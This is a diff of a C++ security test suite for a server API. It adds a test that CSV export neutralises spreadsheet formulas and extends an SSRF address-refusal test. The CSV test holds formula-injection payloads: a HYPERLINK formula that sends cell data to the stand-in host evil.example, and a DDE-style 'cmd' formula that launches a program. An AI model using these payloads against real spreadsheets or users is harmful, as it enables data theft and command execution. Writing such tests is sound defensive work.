@@ -10,6 +10,7 @@
 #include <thread>
 
 #include "common/time.h"
+#include "testing/lm_catcher.h"
 #include "testing/seed_fixture.h"
 
 namespace exemplar::testing {
@@ -18,53 +19,6 @@ namespace {
 const char* kDefectTemplate = "7d3e9a52-1c4b-4f8e-8a6d-2b5c9e0f1a01";
 const char* kProviderSecret = "sk-provider-secret-1f2e3d";
 const char* kOtherSecret = "sk-other-server-secret-9a8b";
-
-// A loopback HTTP server that records every request it receives and answers 500, standing in
-// for an LM endpoint (or an internal service an attacker would like the server to call).
-class Catcher {
- public:
-  struct Seen {
-    std::string path, authorization, body;
-  };
-  Catcher() {
-    svr_.Post(R"(/.*)", [this](const httplib::Request& req, httplib::Response& res) {
-      std::lock_guard lock(mu_);
-      seen_.push_back({req.path, req.get_header_value("Authorization"), req.body});
-      res.status = 500;
-      res.set_content("{\"error\": \"catcher\"}", "application/json");
-    });
-    port_ = svr_.bind_to_any_port("127.0.0.1");
-    thread_ = std::thread([this] { svr_.listen_after_bind(); });
-  }
-  ~Catcher() {
-    svr_.stop();
-    thread_.join();
-  }
-  std::string Url() const { return "http://127.0.0.1:" + std::to_string(port_) + "/v1"; }
-  // Waits (bounded) until at least n requests arrived; returns what arrived.
-  std::vector<Seen> WaitFor(size_t n, int seconds = 60) {
-    for (int i = 0; i < seconds * 20; ++i) {
-      {
-        std::lock_guard lock(mu_);
-        if (seen_.size() >= n) return seen_;
-      }
-      std::this_thread::sleep_for(std::chrono::milliseconds(50));
-    }
-    std::lock_guard lock(mu_);
-    return seen_;
-  }
-  std::vector<Seen> All() {
-    std::lock_guard lock(mu_);
-    return seen_;
-  }
-
- private:
-  httplib::Server svr_;
-  std::thread thread_;
-  int port_ = 0;
-  std::mutex mu_;
-  std::vector<Seen> seen_;
-};
 
 Json LabeledRun(const std::string& tid, Json lm) {
   return {{"template_id", tid}, {"optimizer_type", "LabeledFewShot"}, {"lm", std::move(lm)},
@@ -208,7 +162,7 @@ TEST(SecurityApi, CallerEndpointsRefusePrivateAddressesUnlessAllowed) {
                                 std::string("http://10.0.0.8:8080/v1"), std::string("http://[::1]:9/v1"),
                                 std::string("http://[::127.0.0.1]:9/v1"), std::string("http://[64:ff9b::7f00:1]:9/v1"),
                                 std::string("http://[64:ff9b::a00:8]/v1"), std::string("http://[2002:7f00:1::1]/v1"),
-                                std::string("http://[::ffff:192.168.1.1]/v1"),
+                                std::string("http://[::ffff:192.168.1.1]/v1"), std::string("http://[::ffff:0:7f00:1]:9/v1"),
                                 std::string("http://user:pw@example.com/v1")}) {
     auto r = server.Post("/api/v1/dspy-runs", LabeledRun(tid, {{"base_url", url}, {"model", "x"}}));
     EXPECT_EQ(r.status, 422) << url << ": " << r.raw;
@@ -439,6 +393,40 @@ TEST(SecurityApi, UnknownKeysAreRefusedNamingTheClosestKnownKey) {
   std::string id = got["example_id"];
   got["domain"] = "edited";
   EXPECT_EQ(server.Put("/api/v1/examples/" + id, got).status, 200);
+}
+
+// CSV injection: GET /examples/export?format=csv writes a text cell a spreadsheet would run as a
+// formula after an apostrophe (and one starting with an apostrophe after another), and
+// POST /examples/import takes exactly one off: another store gets the very same strings.
+TEST(SecurityApi, CsvExportWritesFormulasAsTextAndImportGivesThemBack) {
+  TestServer server;
+  const std::vector<std::string> texts = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0",
+                                          "@SUM(1,1)", "-5", "'", "'=", "'=1+1", "\t=1", "plain"};
+  for (size_t i = 0; i < texts.size(); ++i) {
+    Json e = MakeExample("formula " + std::to_string(i), texts[i]);  // the domain
+    e["explanation"] = texts[i];
+    e["client_id"] = "c" + std::to_string(i);
+    ASSERT_EQ(server.Post("/api/v1/examples", e).status, 201) << texts[i];
+  }
+  auto csv = server.Get("/api/v1/examples/export?format=csv");
+  ASSERT_EQ(csv.status, 200);
+  for (const char* cell : {"\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\"", ",'+cmd|' /C calc'!A0,",
+                           "\"'@SUM(1,1)\"", ",'-5,", ",'',", ",''=,", ",''=1+1,", ",'\t=1,", ",plain,"}) {
+    EXPECT_NE(csv.raw.find(cell), std::string::npos) << cell << " not in\n" << csv.raw;
+  }
+  for (const char* raw : {",=", ",+", ",@", ",-", ",\t"}) EXPECT_EQ(csv.raw.find(raw), std::string::npos) << raw;
+
+  TestServer other;
+  auto imported = other.PostRaw("/api/v1/examples/import", csv.raw, "text/csv");
+  ASSERT_EQ(imported.status, 201) << imported.raw;
+  auto back = other.Get("/api/v1/examples?page_size=100").body["examples"];
+  ASSERT_EQ(back.size(), texts.size());
+  for (const auto& e : back) {
+    const size_t i = std::stoul(e["client_id"].get<std::string>().substr(1));
+    EXPECT_EQ(e["explanation"], texts[i]);
+    EXPECT_EQ(e["domain"], texts[i]);
+    EXPECT_EQ(e["input"], Json({{"text", "formula " + std::to_string(i)}}));
+  }
 }
 
 }  // namespace
